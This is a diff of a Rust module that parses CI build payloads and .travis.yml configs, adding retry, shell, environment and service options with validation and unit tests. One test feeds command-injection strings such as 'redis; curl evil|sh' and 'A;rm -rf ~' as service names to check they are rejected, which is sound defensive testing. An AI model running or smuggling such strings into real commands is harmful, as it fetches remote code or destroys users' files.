@@ -1,13 +1,22 @@
+use ast::{RetryPolicy,FixedBackoff,ExponentialBackoff};
 use serialize::json;
 use std::string::as_string;
+use yaml;
 
 pub struct Payload {
     pub job: Job,
     pub repository: Repository,
     pub config: Config,
+    pub oauth_token: Option<String>,
     pub paranoid: bool,
     pub fix_resolv_conf: bool,
     pub fix_etc_hosts: bool,
+    /// How often commands that can fail because of the network are retried, unless they have their own policy.
+    pub retry: RetryPolicy,
+    /// The shell the build script is written for.
+    pub shell: Shell,
+    /// Leave the colours out of the messages the script prints, for logs that don't show them.
+    pub no_color: bool,
 }
 
 pub struct Job {
@@ -20,12 +29,47 @@ pub struct Job {
 pub struct Repository {
     pub slug: String,
     pub source_url: String,
+    pub api_url: Option<String>,
+    /// The PEM encoded private key used to decrypt secure environment variables.
+    pub private_key: Option<String>,
 }
 
 pub struct Config {
     pub language: String,
+    pub os: String,
+    pub rust: String,
     pub git: GitConfig,
-    pub services: Vec<String>,
+    pub services: Vec<Service>,
+    pub env: EnvConfig,
+    pub before_install: Vec<String>,
+    pub install: Option<Vec<String>>,
+    pub before_script: Vec<String>,
+    pub script: Option<Vec<String>>,
+    pub after_success: Vec<String>,
+    pub after_failure: Vec<String>,
+    pub after_script: Vec<String>,
+}
+
+/// Environment variables, as strings of one or more `NAME=value` assignments.
+pub struct EnvConfig {
+    /// Variables that are set for every job.
+    pub global: Vec<EnvEntry>,
+    /// Variables that are set for this job. Before the matrix is expanded there is one entry per job.
+    pub matrix: Vec<EnvEntry>,
+}
+
+#[deriving(Clone, PartialEq, Show)]
+pub enum EnvEntry {
+    Plain(String),
+    /// Assignments encrypted with the public key of the repository, given as `{secure: "..."}`.
+    Secure(String),
+}
+
+#[deriving(Clone)]
+pub struct Service {
+    pub name: String,
+    pub version: Option<String>,
+    pub env: Vec<(String, String)>,
 }
 
 pub struct GitConfig {
@@ -40,82 +84,382 @@ pub enum GitStrategy {
     Tarball,
 }
 
+#[deriving(Clone, PartialEq, Show)]
+pub enum Shell {
+    Bash,
+    /// Plain POSIX sh, for images that don't have bash. POSIX has no `base64`, so writing files
+    /// also needs a `base64 -d`, like the ones in GNU coreutils and busybox.
+    Posix,
+}
+
 macro_rules! json_to (
-    ($r:expr, String) => ($r.as_string());
-    ($r:expr, bool) => ($r.as_boolean());
-    ($r:expr, u64) => ($r.as_u64());
-    ($r:expr, $t:ident) => (Some(try!($t::from_json($r))));
+    ($r:expr, $path:expr, String) => ($r.as_string());
+    ($r:expr, $path:expr, bool) => ($r.as_boolean());
+    // Numbers from `.travis.yml` are strings, see the `yaml` module.
+    ($r:expr, $path:expr, u64) => ($r.as_u64().or_else(|| $r.as_string().and_then(|s| from_str::<u64>(s))));
+    ($r:expr, $path:expr, $t:ident) => (Some(try!($t::from_json($r, $path))));
+)
+
+macro_rules! type_name (
+    (String) => ("string");
+    (bool) => ("boolean");
+    (u64) => ("unsigned integer");
+    ($t:ident) => ("object");
 )
 
+/// Decodes the value of `$key` in the object `$j`, which is found at `$path` in the payload.
+///
+/// Without a default the key is required, `Optional` makes it an `Option`.
 macro_rules! find_key (
-        ($j:expr, $t:ident, $key:expr) => (match $j.find(&*::std::string::as_string($key)) {
-            Some(v) => try!(json_to!(v, $t).ok_or(json::ApplicationError(format!("{} must be a string", $key)))),
-            None => return Err(json::MissingFieldError($key.to_string())),
+        ($j:expr, $path:expr, $t:ident, $key:expr) => (match $j.find(&*as_string($key)) {
+            Some(v) => {
+                let key_path = join_path($path, $key);
+                try!(json_to!(v, key_path.as_slice(), $t).ok_or(expected_error(key_path.as_slice(), type_name!($t), v)))
+            },
+            None => return Err(json::MissingFieldError(join_path($path, $key))),
         });
-        ($j:expr, $t:ident, $key:expr, Optional) => (try!($j.find(&*::std::string::as_string($key)).map_or(Ok(None), |r| json_to!(r, $t).ok_or(json::ApplicationError(format!("{} must be a string", $key))).map(Some))));
-        ($j:expr, $t:ident, $key:expr, $default:expr) => (match $j.find(&*::std::string::as_string($key)) {
-            Some(v) => try!(json_to!(v, $t).ok_or(json::ApplicationError(format!("{} must be a string", $key)))),
-            None => $default,
+        ($j:expr, $path:expr, $t:ident, $key:expr, Optional) => (match $j.find(&*as_string($key)) {
+            Some(&json::Null) | None => None,
+            Some(v) => {
+                let key_path = join_path($path, $key);
+                Some(try!(json_to!(v, key_path.as_slice(), $t).ok_or(expected_error(key_path.as_slice(), type_name!($t), v))))
+            },
+        });
+        ($j:expr, $path:expr, $t:ident, $key:expr, $default:expr) => (match $j.find(&*as_string($key)) {
+            Some(&json::Null) | None => $default,
+            Some(v) => {
+                let key_path = join_path($path, $key);
+                try!(json_to!(v, key_path.as_slice(), $t).ok_or(expected_error(key_path.as_slice(), type_name!($t), v)))
+            },
         });
 )
 
+fn join_path(path: &str, key: &str) -> String {
+    if path.is_empty() {
+        key.to_string()
+    } else {
+        format!("{}.{}", path, key)
+    }
+}
+
+fn expected_error(path: &str, expected: &str, found: &json::Json) -> json::DecoderError {
+    json::ApplicationError(format!("{}: expected {}, got {}", path, expected, found))
+}
+
+fn expect_object(j: &json::Json, path: &str) -> json::DecodeResult<()> {
+    if j.is_object() {
+        Ok(())
+    } else {
+        Err(expected_error(path, "object", j))
+    }
+}
+
 impl Payload {
+    /// Creates a payload for the given job, with the fixes and paranoid mode turned off.
+    pub fn new(job: Job, repository: Repository, config: Config) -> Payload {
+        Payload {
+            job: job,
+            repository: repository,
+            config: config,
+            oauth_token: None,
+            paranoid: false,
+            fix_resolv_conf: false,
+            fix_etc_hosts: false,
+            retry: RetryPolicy::default(),
+            shell: Bash,
+            no_color: false,
+        }
+    }
+
     pub fn from_json(j: &json::Json) -> json::DecodeResult<Payload> {
         if !j.is_object() {
-            return Err(json::ApplicationError("payload must be an object".to_string()));
+            return Err(json::ApplicationError(format!("payload: expected object, got {}", j)));
         }
 
         Ok(Payload {
-            job: find_key!(j, Job, "job"),
-            repository: find_key!(j, Repository, "repository"),
-            config: find_key!(j, Config, "repository"),
-            paranoid: find_key!(j, bool, "paranoid", false),
-            fix_resolv_conf: !find_key!(j, bool, "skip_resolv_updates", true),
-            fix_etc_hosts: !find_key!(j, bool, "skip_etc_hosts_fix", true),
+            job: find_key!(j, "", Job, "job"),
+            repository: find_key!(j, "", Repository, "repository"),
+            config: find_key!(j, "", Config, "config"),
+            oauth_token: find_key!(j, "", String, "oauth_token", Optional).map(|s| s.to_string()),
+            paranoid: find_key!(j, "", bool, "paranoid", false),
+            fix_resolv_conf: !find_key!(j, "", bool, "skip_resolv_updates", true),
+            fix_etc_hosts: !find_key!(j, "", bool, "skip_etc_hosts_fix", true),
+            retry: match j.find(&*as_string("retry")) {
+                Some(&json::Null) | None => RetryPolicy::default(),
+                Some(v) => try!(retry_policy_from_json(v, "retry")),
+            },
+            shell: find_key!(j, "", Shell, "shell", Bash),
+            no_color: find_key!(j, "", bool, "no_color", false),
         })
     }
 }
 
+/// Decodes a retry policy like `{"attempts": 5, "backoff": "exponential", "delay": 2, "max_delay": 60}`.
+///
+/// The delays are in seconds, and `max_delay` is only used with exponential backoff.
+fn retry_policy_from_json(j: &json::Json, path: &str) -> json::DecodeResult<RetryPolicy> {
+    try!(expect_object(j, path));
+
+    let attempts = find_key!(j, path, u64, "attempts", 3);
+    if attempts == 0 {
+        return Err(json::ApplicationError(format!("{}: expected at least one attempt, got 0", join_path(path, "attempts"))));
+    }
+
+    let delay = find_key!(j, path, u64, "delay", 1);
+    let backoff = match j.find(&*as_string("backoff")) {
+        Some(&json::Null) | None => FixedBackoff(delay),
+        Some(v) => match v.as_string() {
+            Some("fixed") => FixedBackoff(delay),
+            Some("exponential") => ExponentialBackoff(delay, find_key!(j, path, u64, "max_delay", 60)),
+            _ => return Err(expected_error(join_path(path, "backoff").as_slice(), "\"fixed\" or \"exponential\"", v)),
+        },
+    };
+
+    Ok(RetryPolicy { attempts: attempts, backoff: backoff })
+}
+
 impl Job {
-    pub fn from_json(j: &json::Json) -> json::DecodeResult<Job> {
-        if !j.is_object() {
-            return Err(json::ApplicationError("job must be an object".to_string()));
-        }
+    pub fn from_json(j: &json::Json, path: &str) -> json::DecodeResult<Job> {
+        try!(expect_object(j, path));
 
         Ok(Job {
-            branch: find_key!(j, String, "branch").to_string(),
-            commit: find_key!(j, String, "commit").to_string(),
-            git_ref: find_key!(j, String, "ref", Optional).map(|s| s.to_string()),
-            pull_request: find_key!(j, bool, "pull_request"),
+            branch: find_key!(j, path, String, "branch").to_string(),
+            commit: find_key!(j, path, String, "commit").to_string(),
+            git_ref: find_key!(j, path, String, "ref", Optional).map(|s| s.to_string()),
+            pull_request: find_key!(j, path, bool, "pull_request"),
         })
     }
 }
 
 impl Repository {
-    pub fn from_json(j: &json::Json) -> json::DecodeResult<Repository> {
-        if !j.is_object() {
-            return Err(json::ApplicationError("repository must be an object".to_string()));
+    pub fn from_json(j: &json::Json, path: &str) -> json::DecodeResult<Repository> {
+        try!(expect_object(j, path));
+
+        // The slug is where the repository is checked out to, and a path can't have a NUL byte.
+        let slug = find_key!(j, path, String, "slug");
+        if slug.contains_char('\0') {
+            return Err(json::ApplicationError(format!("{}: expected a slug without NUL bytes", join_path(path, "slug"))));
         }
 
         Ok(Repository {
-            slug: find_key!(j, String, "slug").to_string(),
-            source_url: find_key!(j, String, "source_url").to_string(),
+            slug: slug.to_string(),
+            source_url: find_key!(j, path, String, "source_url").to_string(),
+            api_url: find_key!(j, path, String, "api_url", Optional).map(|s| s.to_string()),
+            private_key: find_key!(j, path, String, "private_key", Optional).map(|s| s.to_string()),
         })
     }
 }
 
 impl Config {
-    pub fn from_json(j: &json::Json) -> json::DecodeResult<Config> {
-        // let git_config = try!(GitConfig::from_json(j.find(&"git".to_string()).unwrap_or(&json::Null)));
-        let services_json: Vec<json::Json> = try!(j.find(&"services".to_string()).unwrap_or(&json::List(vec![])).as_list().ok_or(json::ApplicationError("config.services must be a list of strings".to_string()))).to_vec();
-        let services = services_json.iter().map(|e| e.as_string().unwrap().to_string()).collect();
+    pub fn from_json(j: &json::Json, path: &str) -> json::DecodeResult<Config> {
+        try!(expect_object(j, path));
+
+        let services_path = join_path(path, "services");
+        let services = match j.find(&*as_string("services")) {
+            Some(&json::List(ref list)) => {
+                let mut services = Vec::with_capacity(list.len());
+                for (i, service) in list.iter().enumerate() {
+                    services.push(try!(Service::from_json(service, format!("{}[{}]", services_path, i).as_slice())));
+                }
+                services
+            },
+            Some(&json::Null) | None => vec![],
+            Some(v) => vec![try!(Service::from_json(v, services_path.as_slice()))],
+        };
 
         Ok(Config {
-            language: find_key!(j, String, "language", "ruby").to_string(),
-            git: find_key!(j, GitConfig, "git", GitConfig::default()),
+            language: find_key!(j, path, String, "language", "ruby").to_string(),
+            os: find_key!(j, path, String, "os", "linux").to_string(),
+            rust: find_key!(j, path, String, "rust", "stable").to_string(),
+            git: find_key!(j, path, GitConfig, "git", GitConfig::default()),
             services: services,
+            env: find_key!(j, path, EnvConfig, "env", EnvConfig::default()),
+            before_install: try!(string_list(j, path, "before_install")).unwrap_or(vec![]),
+            install: try!(string_list(j, path, "install")),
+            before_script: try!(string_list(j, path, "before_script")).unwrap_or(vec![]),
+            script: try!(string_list(j, path, "script")),
+            after_success: try!(string_list(j, path, "after_success")).unwrap_or(vec![]),
+            after_failure: try!(string_list(j, path, "after_failure")).unwrap_or(vec![]),
+            after_script: try!(string_list(j, path, "after_script")).unwrap_or(vec![]),
         })
     }
+
+    /// Decodes the contents of a `.travis.yml` file.
+    pub fn from_yaml(input: &str) -> json::DecodeResult<Config> {
+        match yaml::parse(input) {
+            Ok(json::Null) => Ok(Config::default()),
+            Ok(j) => Config::from_json(&j, "config"),
+            Err(e) => Err(json::ApplicationError(format!(".travis.yml: {}", e))),
+        }
+    }
+
+    pub fn default() -> Config {
+        Config {
+            language: "ruby".to_string(),
+            os: "linux".to_string(),
+            rust: "stable".to_string(),
+            git: GitConfig::default(),
+            services: vec![],
+            env: EnvConfig::default(),
+            before_install: vec![],
+            install: None,
+            before_script: vec![],
+            script: None,
+            after_success: vec![],
+            after_failure: vec![],
+            after_script: vec![],
+        }
+    }
+}
+
+/// Reads a list of commands from `key`, accepting a single string as a list with one element.
+///
+/// Returns `None` if the key isn't set, so callers can tell a missing stage from an empty one.
+fn string_list(j: &json::Json, path: &str, key: &str) -> json::DecodeResult<Option<Vec<String>>> {
+    let key_path = join_path(path, key);
+    let list = match j.find(&*as_string(key)) {
+        None | Some(&json::Null) => return Ok(None),
+        Some(&json::String(ref s)) => return Ok(Some(vec![s.clone()])),
+        Some(&json::List(ref list)) => list,
+        Some(v) => return Err(expected_error(key_path.as_slice(), "string or list of strings", v)),
+    };
+
+    let mut result = Vec::with_capacity(list.len());
+    for (i, element) in list.iter().enumerate() {
+        match element.as_string() {
+            Some(s) => result.push(s.to_string()),
+            None => return Err(expected_error(format!("{}[{}]", key_path, i).as_slice(), "string", element)),
+        }
+    }
+
+    Ok(Some(result))
+}
+
+impl EnvConfig {
+    pub fn default() -> EnvConfig {
+        EnvConfig {
+            global: vec![],
+            matrix: vec![],
+        }
+    }
+
+    /// Decodes either the variables of the job, as one entry or a list of them, or an object
+    /// with `global` and `matrix` keys that are each in that form.
+    pub fn from_json(j: &json::Json, path: &str) -> json::DecodeResult<EnvConfig> {
+        match *j {
+            // `{secure: "..."}` is a single entry, not the `global` and `matrix` object.
+            json::Object(_) if j.find(&*as_string("secure")).is_none() => Ok(EnvConfig {
+                global: try!(env_entries(j.find(&*as_string("global")), join_path(path, "global").as_slice())),
+                matrix: try!(env_entries(j.find(&*as_string("matrix")), join_path(path, "matrix").as_slice())),
+            }),
+            _ => Ok(EnvConfig {
+                global: vec![],
+                matrix: try!(env_entries(Some(j), path)),
+            }),
+        }
+    }
+}
+
+/// Decodes a single entry or a list of them.
+fn env_entries(j: Option<&json::Json>, path: &str) -> json::DecodeResult<Vec<EnvEntry>> {
+    match j {
+        None | Some(&json::Null) => Ok(vec![]),
+        Some(&json::List(ref list)) => {
+            let mut entries = Vec::with_capacity(list.len());
+            for (i, entry) in list.iter().enumerate() {
+                entries.push(try!(EnvEntry::from_json(entry, format!("{}[{}]", path, i).as_slice())));
+            }
+            Ok(entries)
+        },
+        Some(v) => Ok(vec![try!(EnvEntry::from_json(v, path))]),
+    }
+}
+
+impl EnvEntry {
+    /// Decodes either a string of assignments, or an object with the encrypted assignments in
+    /// its `secure` key.
+    pub fn from_json(j: &json::Json, path: &str) -> json::DecodeResult<EnvEntry> {
+        match *j {
+            json::String(ref assignments) => Ok(Plain(assignments.clone())),
+            json::Object(_) => Ok(Secure(find_key!(j, path, String, "secure").to_string())),
+            _ => Err(expected_error(path, "string or object", j)),
+        }
+    }
+}
+
+impl Service {
+    pub fn new(name: &str) -> Service {
+        Service {
+            name: name.to_string(),
+            version: None,
+            env: vec![],
+        }
+    }
+
+    /// Decodes either the name of a service, or an object with a `name` and optionally a `version` and `env`.
+    ///
+    /// The names of the service and its variables end up in the command that starts it, so they
+    /// are checked here.
+    pub fn from_json(j: &json::Json, path: &str) -> json::DecodeResult<Service> {
+        match *j {
+            json::String(_) => return Ok(Service::new(try!(service_name(j, path)).as_slice())),
+            json::Object(_) => {},
+            _ => return Err(expected_error(path, "string or object", j)),
+        }
+
+        let name_path = join_path(path, "name");
+        let name = match j.find(&*as_string("name")) {
+            Some(v) => try!(service_name(v, name_path.as_slice())),
+            None => return Err(json::MissingFieldError(name_path)),
+        };
+
+        let env_path = join_path(path, "env");
+        let env = match j.find(&*as_string("env")) {
+            Some(&json::Object(ref vars)) => {
+                let mut env = Vec::with_capacity(vars.len());
+                for (key, value) in vars.iter() {
+                    if !is_variable_name(key.as_slice()) {
+                        return Err(expected_error(env_path.as_slice(), "variable names as keys", &json::String(key.clone())));
+                    }
+                    match value.as_string() {
+                        Some(value) => env.push((key.clone(), value.to_string())),
+                        None => return Err(expected_error(join_path(env_path.as_slice(), key.as_slice()).as_slice(), "string", value)),
+                    }
+                }
+                env
+            },
+            Some(&json::Null) | None => vec![],
+            Some(v) => return Err(expected_error(env_path.as_slice(), "object", v)),
+        };
+
+        Ok(Service {
+            name: name,
+            version: find_key!(j, path, String, "version", Optional).map(|s| s.to_string()),
+            env: env,
+        })
+    }
+}
+
+/// Decodes the name of a service, which can only be made of the characters of init script names.
+fn service_name(j: &json::Json, path: &str) -> json::DecodeResult<String> {
+    match j.as_string() {
+        Some(name) if is_service_name(name) => Ok(name.to_string()),
+        Some(_) => Err(expected_error(path, "a service name of letters, digits and \"-_.@\"", j)),
+        None => Err(expected_error(path, "string", j)),
+    }
+}
+
+fn is_service_name(name: &str) -> bool {
+    !name.is_empty() &&
+        !"-_.@".contains_char(name.char_at(0)) &&
+        name.chars().all(|ch| (ch >= 'A' && ch <= 'Z') || (ch >= 'a' && ch <= 'z') || (ch >= '0' && ch <= '9') || "-_.@".contains_char(ch))
+}
+
+/// Whether the name can be used for a shell variable, which is `[A-Za-z_][A-Za-z0-9_]*`.
+pub fn is_variable_name(name: &str) -> bool {
+    !name.is_empty() &&
+        !name.char_at(0).is_digit() &&
+        name.chars().all(|ch| (ch >= 'A' && ch <= 'Z') || (ch >= 'a' && ch <= 'z') || (ch >= '0' && ch <= '9') || ch == '_')
 }
 
 impl GitConfig {
@@ -128,31 +472,43 @@ impl GitConfig {
         }
     }
 
-    pub fn from_json(j: &json::Json) -> json::DecodeResult<GitConfig> {
-        let strategy = try!(GitStrategy::from_json(j.find(&*as_string("strategy")).unwrap_or(&json::String("clone".to_string()))));
+    pub fn from_json(j: &json::Json, path: &str) -> json::DecodeResult<GitConfig> {
+        try!(expect_object(j, path));
 
         Ok(GitConfig {
-            depth: find_key!(j, u64, "depth", 50),
-            submodules: find_key!(j, bool, "submodules", true),
-            submodules_depth: find_key!(j, u64, "submodules_depth", Optional),
-            strategy: strategy,
+            depth: find_key!(j, path, u64, "depth", 50),
+            submodules: find_key!(j, path, bool, "submodules", true),
+            submodules_depth: find_key!(j, path, u64, "submodules_depth", Optional),
+            strategy: find_key!(j, path, GitStrategy, "strategy", Clone),
         })
     }
 }
 
 impl GitStrategy {
-    pub fn from_json(j: &json::Json) -> json::DecodeResult<GitStrategy> {
-        match j.as_string().unwrap_or("clone") {
-            "tarball" => Ok(Tarball),
-            "clone" => Ok(Clone),
-            _ => Err(json::ApplicationError("git.strategy unknown".to_string())),
+    pub fn from_json(j: &json::Json, path: &str) -> json::DecodeResult<GitStrategy> {
+        match j.as_string() {
+            Some("tarball") => Ok(Tarball),
+            Some("clone") => Ok(Clone),
+            _ => Err(expected_error(path, "\"clone\" or \"tarball\"", j)),
+        }
+    }
+}
+
+impl Shell {
+    pub fn from_json(j: &json::Json, path: &str) -> json::DecodeResult<Shell> {
+        match j.as_string() {
+            Some("bash") => Ok(Bash),
+            Some("posix") => Ok(Posix),
+            _ => Err(expected_error(path, "\"bash\" or \"posix\"", j)),
         }
     }
 }
 
 #[cfg(test)]
 pub mod test {
-    use super::{Payload,Job,Repository,Config,GitConfig,Clone};
+    use super::{Payload,Job,Repository,Config,GitConfig,Clone,Plain,Secure,Bash,Posix};
+    use ast::{RetryPolicy,FixedBackoff,ExponentialBackoff};
+    use serialize::json;
 
     pub fn a_payload() -> Payload {
         Payload {
@@ -165,19 +521,210 @@ pub mod test {
             repository: Repository {
                 slug: "example_owner/example_repo".to_string(),
                 source_url: "git://github.com/example_owner/example_repo.git".to_string(),
+                api_url: None,
+                private_key: None,
             },
             config: Config {
+                language: "ruby".to_string(),
                 git: GitConfig {
                     depth: 50,
                     submodules: true,
                     submodules_depth: None,
                     strategy: Clone,
                 },
-                services: vec![],
+                .. Config::default()
             },
+            oauth_token: None,
             paranoid: false,
             fix_resolv_conf: false,
             fix_etc_hosts: false,
+            retry: RetryPolicy::default(),
+            shell: Bash,
+            no_color: false,
+        }
+    }
+
+    fn decode_error(payload: &str) -> String {
+        match Payload::from_json(&json::from_str(payload).unwrap()) {
+            Ok(_) => panic!("expected {} to be invalid", payload),
+            Err(json::ApplicationError(message)) => message,
+            Err(json::MissingFieldError(field)) => format!("missing {}", field),
+            Err(e) => panic!("unexpected error: {}", e),
+        }
+    }
+
+    fn payload_with_config(config: &str) -> String {
+        format!("{{\"repository\":{{\"slug\":\"a/b\",\"source_url\":\"git://github.com/a/b.git\"}},\"job\":{{\"commit\":\"abcdef\",\"branch\":\"master\",\"pull_request\":false}},\"config\":{}}}", config)
+    }
+
+    /// A payload with an empty config and the extra top-level fields, like `"retry":{"attempts":3}`.
+    fn payload_with(extra: &str) -> String {
+        let payload = payload_with_config("{}");
+        format!("{},{}}}", payload.as_slice().slice_to(payload.len() - 1), extra)
+    }
+
+    #[test]
+    fn test_config_is_read_from_config_key() {
+        let payload = Payload::from_json(&json::from_str(payload_with_config("{\"language\":\"rust\"}").as_slice()).unwrap()).ok().unwrap();
+
+        assert_eq!("rust", payload.config.language.as_slice());
+    }
+
+    #[test]
+    fn test_error_path_for_nested_key() {
+        assert_eq!("config.git.depth: expected unsigned integer, got \"fifty\"", decode_error(payload_with_config("{\"git\":{\"depth\":\"fifty\"}}").as_slice()).as_slice());
+        assert_eq!("config.git.submodules: expected boolean, got 1", decode_error(payload_with_config("{\"git\":{\"submodules\":1}}").as_slice()).as_slice());
+        assert_eq!("config.git.strategy: expected \"clone\" or \"tarball\", got \"rsync\"", decode_error(payload_with_config("{\"git\":{\"strategy\":\"rsync\"}}").as_slice()).as_slice());
+    }
+
+    #[test]
+    fn test_error_path_for_list_element() {
+        assert_eq!("config.script[1]: expected string, got true", decode_error(payload_with_config("{\"script\":[\"make\",true]}").as_slice()).as_slice());
+    }
+
+    #[test]
+    fn test_retry_policy() {
+        let decode = |retry: &str| Payload::from_json(&json::from_str(payload_with(format!("\"retry\":{}", retry).as_slice()).as_slice()).unwrap()).ok().unwrap().retry;
+
+        assert_eq!(RetryPolicy::default(), decode("null"));
+        assert_eq!(RetryPolicy { attempts: 5, backoff: FixedBackoff(10) }, decode("{\"attempts\":5,\"delay\":10}"));
+        assert_eq!(RetryPolicy { attempts: 3, backoff: ExponentialBackoff(2, 60) }, decode("{\"backoff\":\"exponential\",\"delay\":2}"));
+        assert_eq!(RetryPolicy { attempts: 4, backoff: ExponentialBackoff(1, 30) }, decode("{\"attempts\":4,\"backoff\":\"exponential\",\"max_delay\":30}"));
+    }
+
+    #[test]
+    fn test_invalid_retry_policy() {
+        assert_eq!("retry.backoff: expected \"fixed\" or \"exponential\", got \"linear\"", decode_error(payload_with("\"retry\":{\"backoff\":\"linear\"}").as_slice()).as_slice());
+        assert_eq!("retry.attempts: expected at least one attempt, got 0", decode_error(payload_with("\"retry\":{\"attempts\":0}").as_slice()).as_slice());
+        assert_eq!("retry: expected object, got 3", decode_error(payload_with("\"retry\":3").as_slice()).as_slice());
+    }
+
+    #[test]
+    fn test_shell() {
+        let decode = |shell: &str| Payload::from_json(&json::from_str(payload_with(format!("\"shell\":{}", shell).as_slice()).as_slice()).unwrap()).ok().unwrap().shell;
+
+        assert_eq!(Bash, decode("null"));
+        assert_eq!(Bash, decode("\"bash\""));
+        assert_eq!(Posix, decode("\"posix\""));
+        assert_eq!("shell: expected \"bash\" or \"posix\", got \"zsh\"", decode_error(payload_with("\"shell\":\"zsh\"").as_slice()).as_slice());
+    }
+
+    #[test]
+    fn test_no_color() {
+        let decode = |no_color: &str| Payload::from_json(&json::from_str(payload_with(format!("\"no_color\":{}", no_color).as_slice()).as_slice()).unwrap()).ok().unwrap().no_color;
+
+        assert_eq!(false, decode("null"));
+        assert_eq!(true, decode("true"));
+        assert_eq!("no_color: expected boolean, got \"yes\"", decode_error(payload_with("\"no_color\":\"yes\"").as_slice()).as_slice());
+    }
+
+    #[test]
+    fn test_services() {
+        let payload = Payload::from_json(&json::from_str(payload_with_config("{\"services\":[\"redis\",{\"name\":\"postgresql\",\"version\":\"9.3\",\"env\":{\"PGPORT\":\"5433\"}}]}").as_slice()).unwrap()).ok().unwrap();
+        let services = payload.config.services;
+
+        assert_eq!("redis", services[0].name.as_slice());
+        assert_eq!(None, services[0].version);
+        assert_eq!("postgresql", services[1].name.as_slice());
+        assert_eq!(Some("9.3".to_string()), services[1].version);
+        assert_eq!(vec![("PGPORT".to_string(), "5433".to_string())], services[1].env);
+    }
+
+    #[test]
+    fn test_invalid_services() {
+        assert_eq!("config.services[0]: expected string or object, got 1", decode_error(payload_with_config("{\"services\":[1]}").as_slice()).as_slice());
+        assert_eq!("missing config.services[0].name", decode_error(payload_with_config("{\"services\":[{\"version\":\"1\"}]}").as_slice()).as_slice());
+        assert_eq!("config.services[0].env.PORT: expected string, got 1", decode_error(payload_with_config("{\"services\":[{\"name\":\"redis\",\"env\":{\"PORT\":1}}]}").as_slice()).as_slice());
+        assert_eq!("config.services: expected string or object, got true", decode_error(payload_with_config("{\"services\":true}").as_slice()).as_slice());
+    }
+
+    #[test]
+    fn test_services_that_would_run_commands() {
+        assert_eq!("config.services[0]: expected a service name of letters, digits and \"-_.@\", got \"redis; curl evil|sh\"",
+                   decode_error(payload_with_config("{\"services\":[\"redis; curl evil|sh\"]}").as_slice()).as_slice());
+        assert_eq!("config.services[0].name: expected a service name of letters, digits and \"-_.@\", got \"-rf\"",
+                   decode_error(payload_with_config("{\"services\":[{\"name\":\"-rf\"}]}").as_slice()).as_slice());
+        assert_eq!("config.services[0].env: expected variable names as keys, got \"A;rm -rf ~\"",
+                   decode_error(payload_with_config("{\"services\":[{\"name\":\"redis\",\"env\":{\"A;rm -rf ~\":\"1\"}}]}").as_slice()).as_slice());
+        assert_eq!("config.services[0].name: expected string, got 1", decode_error(payload_with_config("{\"services\":[{\"name\":1}]}").as_slice()).as_slice());
+    }
+
+    #[test]
+    fn test_config_from_yaml() {
+        let config = Config::from_yaml("language: rust\nscript: make\nservices: redis\ngit:\n  depth: 10\n").ok().unwrap();
+
+        assert_eq!("rust", config.language.as_slice());
+        assert_eq!(Some(vec!["make".to_string()]), config.script);
+        assert_eq!("redis", config.services[0].name.as_slice());
+        assert_eq!(10, config.git.depth);
+    }
+
+    #[test]
+    fn test_config_from_yaml_with_numbers_as_strings() {
+        let config = Config::from_yaml("rust: 1.0
+script: 1
+env: 2
+").ok().unwrap();
+
+        assert_eq!("1.0", config.rust.as_slice());
+        assert_eq!(Some(vec!["1".to_string()]), config.script);
+        assert_eq!(vec![Plain("2".to_string())], config.env.matrix);
+    }
+
+    #[test]
+    fn test_config_from_yaml_errors() {
+        match Config::from_yaml("git:\n  depth: fifty\n") {
+            Err(json::ApplicationError(message)) => assert_eq!("config.git.depth: expected unsigned integer, got \"fifty\"", message.as_slice()),
+            _ => panic!("expected an error"),
+        }
+        match Config::from_yaml("script: [make\n") {
+            Err(json::ApplicationError(message)) => assert_eq!(".travis.yml: line 1: expected ',' or ']' in flow sequence", message.as_slice()),
+            _ => panic!("expected an error"),
+        }
+    }
+
+    #[test]
+    fn test_env() {
+        let config = Config::from_yaml("env: FOO=bar").ok().unwrap();
+        assert_eq!(vec![Plain("FOO=bar".to_string())], config.env.matrix);
+
+        let config = Config::from_yaml("env:\n  global: A=1\n  matrix:\n    - B=2\n    - B=3\n").ok().unwrap();
+        assert_eq!(vec![Plain("A=1".to_string())], config.env.global);
+        assert_eq!(vec![Plain("B=2".to_string()), Plain("B=3".to_string())], config.env.matrix);
+
+        match Config::from_yaml("env: [true]") {
+            Err(json::ApplicationError(message)) => assert_eq!("config.env[0]: expected string or object, got true", message.as_slice()),
+            _ => panic!("expected an error"),
+        }
+    }
+
+    #[test]
+    fn test_secure_env() {
+        let config = Config::from_yaml("env:\n  global:\n    - secure: abc\n    - A=1\n  matrix:\n    secure: def\n").ok().unwrap();
+        assert_eq!(vec![Secure("abc".to_string()), Plain("A=1".to_string())], config.env.global);
+        assert_eq!(vec![Secure("def".to_string())], config.env.matrix);
+
+        let config = Config::from_yaml("env: {secure: abc}").ok().unwrap();
+        assert_eq!(vec![Secure("abc".to_string())], config.env.matrix);
+
+        match Config::from_yaml("env:\n  - secure: [abc]\n") {
+            Err(json::ApplicationError(message)) => assert_eq!("config.env[0].secure: expected string, got [\"abc\"]", message.as_slice()),
+            _ => panic!("expected an error"),
         }
     }
+
+    #[test]
+    fn test_error_for_non_object() {
+        assert_eq!("config: expected object, got []", decode_error(payload_with_config("[]").as_slice()).as_slice());
+    }
+
+    #[test]
+    fn test_missing_field_path() {
+        assert_eq!("missing job.commit", decode_error("{\"repository\":{\"slug\":\"a/b\",\"source_url\":\"x\"},\"job\":{\"branch\":\"master\",\"pull_request\":false},\"config\":{}}").as_slice());
+    }
+
+    #[test]
+    fn test_slug_without_nul_bytes() {
+        assert_eq!("repository.slug: expected a slug without NUL bytes", decode_error("{\"repository\":{\"slug\":\"a/b\\u0000\",\"source_url\":\"x\"},\"job\":{\"commit\":\"abcdef\",\"branch\":\"master\",\"pull_request\":false},\"config\":{}}").as_slice());
+    }
 }